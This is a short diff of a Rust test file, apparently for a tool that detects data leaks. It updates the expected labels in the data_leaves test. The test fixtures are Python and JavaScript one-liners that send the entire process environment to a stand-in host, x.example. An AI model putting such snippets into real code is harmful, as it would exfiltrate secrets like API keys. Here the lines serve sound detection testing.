@@ -515,12 +515,12 @@ fn data_leaves() {
     check(
         Python,
         "import os,requests\nrequests.post('https://x.example', json=dict(os.environ))",
-        &["send x.example <environment>"],
+        &["send whole-environment x.example <environment>"],
     );
     check(
         JavaScript,
         "fetch('https://x.example/?d=' + encodeURIComponent(JSON.stringify(process.env)))",
-        &["send x.example <environment>"],
+        &["send whole-environment x.example <environment>"],
     );
     check_only(
         Python,
